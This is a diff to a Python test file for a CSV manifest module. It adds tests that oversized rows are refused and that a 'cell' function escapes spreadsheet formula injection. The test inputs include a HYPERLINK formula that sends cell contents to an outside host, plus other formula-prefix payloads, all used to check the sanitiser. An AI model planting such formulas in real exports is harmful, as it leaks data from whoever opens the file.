@@ -8,7 +8,7 @@ from pathlib import Path
 import pytest
 
 from pipeline.errors import ColorpipeError
-from pipeline.manifest import MANIFEST, RawPhoto, content_name, read_table, write_table
+from pipeline.manifest import MANIFEST, RawPhoto, cell, content_name, read_table, write_table
 
 
 @dataclass(frozen=True)
@@ -83,6 +83,33 @@ def test_a_missing_table_and_other_columns_are_refused_with_what_to_do(tmp_path:
     path.write_text("text,count\na,1\n")
     with pytest.raises(ColorpipeError, match="does not have the columns text, count, share, kept"):
         read_table(path, Row)
+
+
+def test_a_row_that_no_reader_takes_is_told(tmp_path: Path) -> None:
+    write_table(tmp_path / "table.csv", [Row("x" * 140_000, 1, 0.0, False)], Row)
+    with pytest.raises(ColorpipeError, match=r"table\.csv has a row that cannot be read"):
+        read_table(tmp_path / "table.csv", Row)
+
+
+@pytest.mark.parametrize(
+    ("strange", "kept"),
+    [
+        ("http://a/1.jpg?x=-1", "http://a/1.jpg?x=-1"),
+        ('=HYPERLINK("http://a/?"&A1)', '\'=HYPERLINK("http://a/?"&A1)'),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "' =1"),
+        ("＝1", "'＝1"),
+        ("'=1", "'=1"),
+        ("x" * 8192, "x" * 8192),
+        ("x" * 8193, "x" * 8191 + "…"),
+        ("", ""),
+    ],
+)
+def test_a_stranger_s_text_is_no_formula_and_not_too_long(strange: str, kept: str) -> None:
+    assert cell(strange) == kept
 
 
 def test_columns_with_a_default_may_be_missing(tmp_path: Path) -> None:
